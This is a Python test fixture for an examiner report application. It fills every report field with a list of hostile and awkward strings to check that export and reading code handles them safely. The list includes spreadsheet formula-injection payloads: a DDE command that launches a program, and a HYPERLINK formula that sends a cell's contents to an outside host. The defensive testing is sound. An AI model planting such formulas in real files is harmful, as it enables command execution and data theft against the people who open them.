"""Words and notes such as no register should hold, and some does."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace

from examiner_app.engine.report.content import ReportContent
from examiner_app.engine.report.entries import MatchEntry

HOSTILE = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://example.org/?"&A1,"click")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "＝1+1",
    "a;=1+1",
    'a";"=1+1";"b',
    "#REF!",
    "#N/A",
    'say "hi", she said',
    "two\nlines",
    "two\r\nlines",
    "tab\tin",
    "\x00\x01\x08\x0b\x1f\x7f\x85\x9f",
    "\ufffe\uffff",
    "half \ud83e a fox",
    "\u202eevil\u2066",
    "_x003D_1+1",
    "x" * 40_000,
    "🦊" * 20_000,
    "🦊 fox",
    "قهوة",
    "咖啡 café コーヒー",
    "'quoted",
    "0123",
    "1e5",
    "TRUE",
    "2019-05-06",
    "</t></is><f>1+1</f>",
    "&amp; & <b>",
    "",
    " ",
)


def with_words(content: ReportContent, texts: tuple[str, ...] = HOSTILE) -> ReportContent:
    """Return the content with one match for each text, which stands wherever words can stand."""
    first = content.matches[0]
    matches = tuple(_mark(first, text, number) for number, text in enumerate(texts))
    return replace(
        content,
        title=texts[0],
        reference=texts[-1],
        examiner=texts[len(texts) // 2],
        candidate=tuple((text, text) for text in texts),
        searched=tuple((text, text) for text in texts),
        matches=matches,
        cited=(),
        tables=(matches[:8],),
        hashes=tuple((text, text) for text in texts),
    )


def _mark(mark: MatchEntry, text: str, number: int) -> MatchEntry:
    facts = (*((label, text) for label, _ in mark.facts), ("Stands for", "2 marks"))
    return replace(
        mark,
        id=f"{number}" if number % 2 else text,
        words=text,
        facts=facts,
        note=(text, text),
        evidence=text,
        pinned=number < 8,
    )


def strings(value: object) -> Iterator[str]:
    """Yield every text in what a reader returned."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from strings(key)
            yield from strings(item)
    elif isinstance(value, list | tuple):
        for item in value:
            yield from strings(item)
